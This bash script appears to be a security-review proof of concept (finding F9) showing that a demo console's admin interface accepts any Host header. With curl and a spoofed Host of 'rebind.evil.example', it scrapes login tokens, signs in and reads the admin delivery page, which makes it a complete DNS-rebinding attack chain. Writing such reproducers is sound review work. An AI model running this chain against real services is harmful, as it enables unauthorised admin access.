#!/usr/bin/env bash
# F9: the demo console answers any Host header, so a DNS-rebinding page can drive it.
# Start it first: PORT=0 node --import tsx src/cli.ts demo --history --serve ; then: review/demo-rebinding.sh <port>
set -euo pipefail
P=$1; B=http://127.0.0.1:$P; H="Host: rebind.evil.example:$P"; J=$(mktemp)
S=$(curl -s -c "$J" -b "$J" -H "$H" "$B/admin/login" | grep -o 'name="state" value="[^"]*"' | sed 's/.*value="//;s/"//')
WHO=$(curl -s -c "$J" -b "$J" -H "$H" "$B/admin/login" | grep -o 'name="person" value="[^"]*"' | head -1 | sed 's/.*value="//;s/"//')
S=$(curl -s -c "$J" -b "$J" -H "$H" "$B/admin/login" | grep -o 'name="state" value="[^"]*"' | sed 's/.*value="//;s/"//')
curl -s -c "$J" -b "$J" -H "$H" -d "state=$S&person=$WHO" "$B/admin/login" -o /dev/null -w "sign-in %{http_code}\n"
curl -s -b "$J" -H "$H" "$B/admin/delivery" | grep -o 'who-scope">[^<]*'
